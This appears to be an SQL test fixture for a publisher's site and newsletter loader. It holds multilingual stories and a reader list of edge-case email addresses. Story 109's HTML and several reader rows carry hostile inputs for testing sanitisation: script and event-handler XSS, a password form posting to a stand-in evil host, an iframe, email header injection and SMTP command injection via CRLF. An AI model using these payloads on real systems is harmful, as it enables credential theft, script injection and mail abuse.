-- A small publisher's database, in a schema that is not courant's: what site_db loads. The texts are our own and may be
-- copied freely. Times of stories are Unix seconds; the week before 2026-11-23T07:00:00Z is due.
BEGIN;
CREATE TABLE staff (uid INTEGER PRIMARY KEY, screen_name TEXT NOT NULL);
INSERT INTO staff VALUES (1, 'Culture desk'), (2, 'Water & weather'), (3, 'K. "Quote" O’Example');

CREATE TABLE desk (did INTEGER PRIMARY KEY, path TEXT NOT NULL, label TEXT NOT NULL);
INSERT INTO desk VALUES (1, 'culture', 'Culture'), (2, 'environment', 'Environment'), (3, 'service', 'For readers');

CREATE TABLE story (
  nid INTEGER PRIMARY KEY, heading TEXT NOT NULL, alias TEXT NOT NULL, tongue TEXT, uid INTEGER, did INTEGER,
  state TEXT NOT NULL CHECK (state IN ('live', 'draft', 'trash')), goes_live INTEGER, touched INTEGER, teaser TEXT,
  markup TEXT NOT NULL CHECK (markup IN ('html', 'md', 'plain')), picture TEXT, picture_text TEXT);
CREATE TABLE story_text (nid INTEGER PRIMARY KEY, words TEXT NOT NULL);

INSERT INTO story VALUES
 (101, 'The library opens its reading room again', '/culture/reading-room', 'en', 1, 1, 'live', 1795086000, 1795086000, NULL, 'md', NULL, NULL),
 (102, 'དཔེ་མཛོད་ཁང་གསར་པ་སྒོ་འབྱེད་གནང་བ།', '/bo/dpe-mdzod', 'bo', 1, 1, 'live', 1795089600, 1795089600, NULL, 'html', NULL, NULL),
 (103, 'كۇتۇپخانا قايتا ئېچىلدى', '/ug/kutupxana', 'ug', 1, 1, 'live', 1795093200, 1795093200, NULL, 'html', NULL, NULL),
 (104, 'افتتاح قاعة المطالعة من جديد', '/ar/maktaba', 'ar', 1, 1, 'live', 1795096800, 1795096800, NULL, 'plain', NULL, NULL),
 (105, 'אולם הקריאה נפתח מחדש', '/he/sifriya', 'he', 1, 1, 'live', 1795100400, 1795100400, NULL, 'md', NULL, NULL),
 (106, '图书馆阅览室重新开放', '/zh/yuelanshi', 'zh-Hans', 1, 1, 'live', 1795104000, 1795104000, NULL, 'html', NULL, NULL),
 (107, 'ห้องสมุดเปิดห้องอ่านหนังสืออีกครั้ง', '/th/hongsamut', 'th', 1, 1, 'live', 1795107600, 1795107600, NULL, 'html', NULL, NULL),
 (108, 'စာကြည့်တိုက် ပြန်ဖွင့်ပြီ', '/my/sa-kyi-taik', 'my', 1, 1, 'live', 1795111200, 1795111200, NULL, 'plain', NULL, NULL),
 (109, 'How high is the river? <Measured & explained>', '/environment/river', 'en', 2, 2, 'live', 1795114800, 1795118400, 'The gauge at the old bridge, read every hour, and what its figures mean for the lower quarter.', 'html', 'https://news.example.org/img/river.png', 'The old bridge with its gauge'),
 (110, 'Opening hours over the holidays', '/service/hours', 'en', 3, 3, 'live', NULL, NULL, NULL, 'plain', NULL, NULL),
 (111, 'From last year: how the dam was built', '/environment/dam', 'en', 2, 2, 'live', 1762000000, 1762000000, NULL, 'md', NULL, NULL),
 (112, 'NOT YET: the council''s budget', '/news/budget', 'en', 3, 3, 'draft', 1795120000, 1795120000, NULL, 'md', NULL, NULL),
 (113, 'Thrown away', '/news/gone', 'en', 3, 3, 'trash', 1795120001, 1795120001, NULL, 'plain', NULL, NULL);

INSERT INTO story_text VALUES
(101, 'After *eleven months* of work the reading room is open again.

## What is new

- forty desks with a lamp of their own
- a quiet corner for children, with [picture books](https://news.example.org/culture/picture-books)
- lockers; bring a coin

> “We kept the old clock,” the librarian says. “It is four minutes slow, and nobody wants it mended.”

The room is open from nine to eight. Entry is free, and a card is needed only to take books home. Line two of this
paragraph has a hard
break, `code in it`, and a very long address: https://news.example.org/culture/reading-room/a/path/that/goes/on/and/on/and/on/until/it/is/longer/than/a/line/of/text/may/be

1. Come in.
2. Sit down.
3. Read.
'),
(102, '<p>དེ་རིང་དཔེ་མཛོད་ཁང་གི་ཀློག་ཁང་གསར་པ་སྒོ་འབྱེད་གནང་སོང༌། ཀློག་ཁང་ནང་ལ་ཅོག་ཙེ་བཞི་བཅུ་ཡོད། བྱིས་པ་རྣམས་ལ་དམིགས་བསལ་གྱི་ཁང་པ་ཞིག་ཀྱང་ཡོད།</p><p>ཞོགས་པའི་ཆུ་ཚོད་དགུ་པ་ནས་དགོང་དྲོའི་ཆུ་ཚོད་བརྒྱད་པ་བར་སྒོ་ཕྱེ་ཡོད། དེབ་ཀློག་པར་རིན་མི་དགོས།</p>'),
(103, '<p>ئون بىر ئايلىق خىزمەتتىن كېيىن كۇتۇپخانىنىڭ ئوقۇش زالى قايتا ئېچىلدى. زالدا قىرىق ئۈستەل بار. بالىلار ئۈچۈن ئايرىم بۇلۇڭمۇ بار.</p><p>زال سائەت توققۇزدىن سەككىزگىچە ئوچۇق. كىرىش ھەقسىز.</p>'),
(104, 'بعد أحد عشر شهرا من العمل فتحت قاعة المطالعة أبوابها من جديد. في القاعة أربعون مكتبا، ولكل مكتب مصباح.

القاعة مفتوحة من التاسعة صباحا إلى الثامنة مساء. الدخول مجاني. الرقم للاستفسار: 555-0100 (تحويلة 12).'),
(105, 'אחרי **אחד־עשר חודשים** של עבודה נפתח אולם הקריאה מחדש. באולם ארבעים שולחנות, ולכל שולחן מנורה.

האולם פתוח מתשע עד שמונה. [הכניסה חופשית](https://news.example.org/he/hours).'),
(106, '<p>经过十一个月的施工，图书馆的阅览室重新开放了。阅览室有四十张书桌，每张桌上都有一盏灯。角落里还有儿童读书区。</p><p>开放时间为上午九点至晚上八点，免费入场。“我们留下了那座老钟，”馆员说，“它慢了四分钟，可是谁也不想修它。”</p>'),
(107, '<p>หลังจากปรับปรุงนานสิบเอ็ดเดือน ห้องอ่านหนังสือของห้องสมุดก็เปิดอีกครั้ง ภายในมีโต๊ะสี่สิบตัว แต่ละโต๊ะมีโคมไฟของตัวเอง</p><p>เปิดตั้งแต่เก้าโมงเช้าถึงสองทุ่ม เข้าชมฟรี</p>'),
(108, 'ဆယ့်တစ်လကြာ ပြုပြင်ပြီးနောက် စာကြည့်တိုက်၏ စာဖတ်ခန်းကို ပြန်ဖွင့်ပါပြီ။ အခန်းထဲတွင် စားပွဲ လေးဆယ် ရှိသည်။

နံနက် ကိုးနာရီမှ ည ရှစ်နာရီအထိ ဖွင့်သည်။ ဝင်ခ မပေးရပါ။'),
(109, '<div class="body" style="position:fixed" onclick="steal()"><h1>The river</h1><p>The gauge at the <b>old bridge</b> is read every hour.<script>document.write("UNSAFE-SCRIPT")</script></p>
<table><caption>Levels</caption><tr><th>Day</th><th>cm</th></tr><tr><td>Friday</td><td>212</td></tr><tr><td>Saturday</td><td>240</td></tr></table>
<p><a href="javascript:alert(1)">A link that must not work</a>, <a href="/environment/gauge">one that is relative</a>, and <a href="https://news.example.org/environment/flood?a=1&amp;b=2">one with two parameters</a>.</p>
<img src="https://tracker.example.com/pixel.gif" width="1" height="1"><img src="/img/gauge.png" alt="The gauge">
<form action="https://evil.example.com/"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example.com/"></iframe><style>body{display:none}</style>
<ul><li>below 200: normal<li>200 to 250: the lower path is closed<li>above 250: sand bags, <i>please</i></ul>
<p>An unclosed <b>bold and &copy; &nbsp; an entity &#x1F30A;'),
(110, 'We are closed on the 25th and the 26th of December.

  Normal hours again from the 27th.
-- 
The desk
From here on: nothing.
.
A line with only a dot stands above.'),
(111, 'Old, and never to be mailed to anyone who starts in October.'),
(112, 'DRAFT-TEXT'),
(113, 'TRASHED-TEXT');

CREATE TABLE reader (
  rid INTEGER PRIMARY KEY, email TEXT, first TEXT, last TEXT, tongue TEXT, since TEXT, opted INTEGER NOT NULL);
INSERT INTO reader VALUES
 (1, 'tenzin@example.org', 'Tenzin', 'Reader', 'bo', '2026-09-01', 1),
 (2, 'aynur@example.org', 'Aynur', 'Reader', 'ug', '2026-09-02', 1),
 (3, 'layla@example.org', 'Layla', 'Reader', 'ar', '2026-09-03', 1),
 (4, 'noam@example.org', 'Noam', 'Reader', 'he', '2026-09-04', 1),
 (5, 'mei@example.org', 'Mei', 'Reader', 'zh-Hans', '2026-09-05', 1),
 (6, 'somchai@example.org', 'Somchai', 'Reader', 'th', '2026-09-06', 1),
 (7, 'thida@example.org', 'Thida', 'Reader', 'my', '2026-09-07', 1),
 (8, 'one@example.net', 'One', 'Reader', 'en', '2026-09-08 10:00:00', 1),
 (9, 'two+tag@sub.example.net', 'Two', 'Tagged', 'en', '2026-09-09T10:00:00+02:00', 1),
 (10, 'first.last@example.net', 'Renée', 'Ångström', 'fr', NULL, 1),
 (11, 'long-name@example.net', 'Wolfeschlegelsteinhausenbergerdorff', 'Ἀλέξανδρος Ὀνόματος-Μακροῦ the Third of a Very Long Line of Readers', 'de', '2026-09-10', 1),
 (12, 'SHOUTING@EXAMPLE.NET', 'Loud', 'Voice', 'en', '2026-09-11', 1),
 (13, 'shouting@example.net', 'Same', 'Person', 'en', '2026-09-11', 1),
 (14, 'one@EXAMPLE.net', 'One', 'Again', 'en', '2026-09-12', 1),
 (15, 'markup@example.net', '<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', 'en', '2026-09-13', 1),
 (16, 'comma@example.net', 'Last, First', '(comment) "quoted" \', 'en', '2026-09-13', 1),
 (17, 'newline.name@example.net', 'Two
Lines', 'X-Injected: yes', 'en', '2026-09-13', 1),
 (18, 'emoji@example.net', '🌊 Wave', '', 'en', '2026-09-14', 1),
 (19, 'noname@example.net', NULL, NULL, NULL, NULL, 1),
 (20, 'leser@bücher.example', 'IDN', 'Domain', 'de', '2026-09-15', 1),
 (30, 'stopped@example.net', 'Stopped', 'Reader', 'en', '2026-09-01', 0),
 (31, 'inject@example.net
Bcc: everyone@example.com', 'Header', 'Injection', 'en', '2026-09-16', 1),
 (32, 'crlf@example.net' || char(13, 10) || 'RCPT TO:<other@example.com>', 'Command', 'Injection', 'en', '2026-09-16', 1),
 (33, 'no-at-sign', 'No', 'At', 'en', '2026-09-16', 1),
 (34, 'two@at@example.net', 'Two', 'Ats', 'en', '2026-09-16', 1),
 (35, 'a.local.part.that.is.one.byte.longer.than.the.standard.allows.xyz@example.net', 'Long', 'Local', 'en', '2026-09-16', 1),
 (36, '@example.net', 'No', 'Local', 'en', '2026-09-16', 1),
 (37, 'nobody@', 'No', 'Domain', 'en', '2026-09-16', 1),
 (38, '', 'Empty', 'Address', 'en', '2026-09-16', 1),
 (39, NULL, 'Null', 'Address', 'en', '2026-09-16', 1),
 (40, 'angle<brackets>@example.net', 'Angle', 'Brackets', 'en', '2026-09-16', 1),
 (41, 'café@example.net', 'Local', 'Utf8', 'fr', '2026-09-16', 1),
 (42, 'nul@example.net' || char(0) || 'x', 'Nul', 'Byte', 'en', '2026-09-16', 1);
COMMIT;
